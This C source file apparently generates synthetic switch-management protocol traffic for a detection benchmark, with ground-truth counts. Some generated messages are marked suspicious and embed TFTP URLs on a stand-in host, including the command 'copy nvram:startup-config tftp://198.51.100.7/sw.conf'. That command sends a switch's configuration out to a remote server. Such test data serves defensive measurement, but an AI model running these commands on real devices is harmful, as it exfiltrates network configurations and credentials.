/* SPDX-License-Identifier: BSD-2-Clause */
#include "bench/message.h"

#include <stdio.h>
#include <string.h>

enum {
    HEADER = 16,
    FROM_DIRECTOR_CLIENT = 1,
    FROM_DIRECTOR_SERVER = 2,
    FROM_SWITCH_CLIENT = 3,
    FROM_SWITCH_SERVER = 4,
    COMMAND_SLOT = 336
};

static void put32(uint8_t *at, uint32_t value)
{
    for (int i = 0; i < 4; i++)
        at[i] = (uint8_t)(value >> (24 - 8 * i));
}

static uint32_t finish(uint8_t *bytes, uint32_t from, uint32_t version, uint32_t type, uint32_t body)
{
    put32(bytes, from);
    put32(bytes + 4, version);
    put32(bytes + 8, type);
    put32(bytes + 12, body);
    return HEADER + body;
}

static void put_url(uint8_t *at, const char *file)
{
    snprintf((char *)at, 128, "tftp://198.51.100.7/%s", file);
}

static uint32_t put_download_image(struct bench_random *random, uint8_t *bytes, int suspicious)
{
    uint32_t now = bench_random_range(random, 0, 1);
    put32(bytes + 16, 2);
    put32(bytes + 20, now ? 0x821 : 0x801);
    put32(bytes + 32, now);
    put32(bytes + 36, !now);
    put32(bytes + 40, now ? 0 : bench_random_range(random, 0, 23));
    put32(bytes + 44, now ? 0 : bench_random_range(random, 0, 59));
    put32(bytes + 48, 1);
    if (suspicious)
        put_url(bytes + 52, "tar_imglist0.txt");
    put32(bytes + 464, 1);
    return 452;
}

static uint32_t put_download_config(struct bench_random *random, uint8_t *bytes, int suspicious)
{
    put32(bytes + 16, 3);
    put32(bytes + 28, 2);
    put32(bytes + 36, 1);
    put32(bytes + 40, bench_random_range(random, 0, 23));
    put32(bytes + 44, bench_random_range(random, 0, 59));
    if (suspicious)
        put_url(bytes + 180, "default.conf");
    return 296;
}

static uint32_t put_execute(uint8_t *bytes, int suspicious)
{
    put32(bytes + 16, 1);
    if (suspicious)
        put_url(bytes + 412, "execute.txt");
    put32(bytes + 540, 1);
    return 528;
}

static uint32_t put_init_discovery(struct bench_random *random, uint8_t *bytes)
{
    uint32_t value = bench_random_range(random, 0, 28);
    put32(bytes + 16, 1);
    put32(bytes + 20, value);
    bench_random_fill(random, bytes + 24, value);
    return 8 + value;
}

static uint32_t put_backup_request(struct bench_random *random, uint8_t *bytes, int suspicious)
{
    uint32_t remote = bench_random_range(random, 0, 2);
    uint32_t commands = remote ? 3 : 1;
    put32(bytes + 16, 0x00010014);
    put32(bytes + 20, 1);
    bench_random_fill(random, bytes + 29, 5);
    put32(bytes + 36, (remote ? 0x00030000U : 0x00020000U) | (4 + commands * COMMAND_SLOT));
    if (suspicious)
        strcpy((char *)bytes + 40, "copy nvram:startup-config tftp://198.51.100.7/sw.conf");
    return 24 + commands * COMMAND_SLOT;
}

/* The shares of the types in a busy network of our own making, in percent, cumulated. */
static uint32_t pick_type(struct bench_random *random)
{
    static const struct {
        uint8_t below;
        uint8_t type;
    } shares[] = {{15, 2}, {30, 3}, {45, 4}, {60, 5}, {75, 7}, {100, 8}};
    uint32_t at = bench_random_range(random, 0, 99);
    size_t i = 0;
    while (at >= shares[i].below)
        i++;
    return shares[i].type;
}

static uint32_t put_body(struct bench_random *random, uint8_t *bytes, uint32_t type, int suspicious)
{
    switch (type) {
    case 2: return put_download_image(random, bytes, suspicious);
    case 3: return put_download_config(random, bytes, suspicious);
    case 5: return put_execute(bytes, suspicious);
    case 7: return put_init_discovery(random, bytes);
    case 8: return put_backup_request(random, bytes, suspicious);
    default: put32(bytes + 16, 1); return 8;
    }
}

static void count(struct bench_truth *truth, uint32_t from, uint32_t type, int port)
{
    truth->messages[from][type][port]++;
}

uint32_t bench_message_request(struct bench_random *random, uint8_t *bytes, int port, struct bench_truth *truth,
                               uint32_t *type)
{
    memset(bytes, 0, BENCH_MESSAGE_MAX);
    *type = pick_type(random);
    int carries_text = *type != 4 && *type != 7;
    int suspicious = carries_text && bench_random_percent(random, 5);
    uint32_t exact = put_body(random, bytes, *type, suspicious);
    uint32_t body = exact;
    if (port == BENCH_ON_PORT && bench_random_range(random, 0, 7) == 0)
        body = bench_random_range(random, 8, 1032);
    truth->odd_lengths += body != exact;
    truth->suspicious += (uint64_t)suspicious;
    uint32_t from = *type == 5 ? FROM_DIRECTOR_SERVER : FROM_DIRECTOR_CLIENT;
    count(truth, from, *type, port);
    return finish(bytes, from, 1, *type, body);
}

uint32_t bench_message_answer(uint8_t *bytes, int port, uint32_t type, struct bench_truth *truth)
{
    if (type != 2 && type != 3 && type != 4)
        return 0;
    memset(bytes, 0, HEADER + 8);
    put32(bytes + 16, 1);
    count(truth, FROM_SWITCH_SERVER, type == 4 ? 3 : 4, port);
    return type == 4 ? finish(bytes, FROM_SWITCH_SERVER, 0, 3, 8) : finish(bytes, FROM_SWITCH_SERVER, 0, 4, 4);
}

uint32_t bench_message_backup_response(struct bench_random *random, uint8_t *bytes, struct bench_truth *truth)
{
    memset(bytes, 0, HEADER + 76);
    snprintf((char *)bytes + 16, 40, "access-%u", (unsigned)bench_random_range(random, 1, 9999));
    bench_random_fill(random, bytes + 57, 5);
    bench_random_fill(random, bytes + 68, 16);
    put32(bytes + 88, 1);
    count(truth, FROM_SWITCH_CLIENT, 9, BENCH_ON_PORT);
    return finish(bytes, FROM_SWITCH_CLIENT, 0, 9, 76);
}
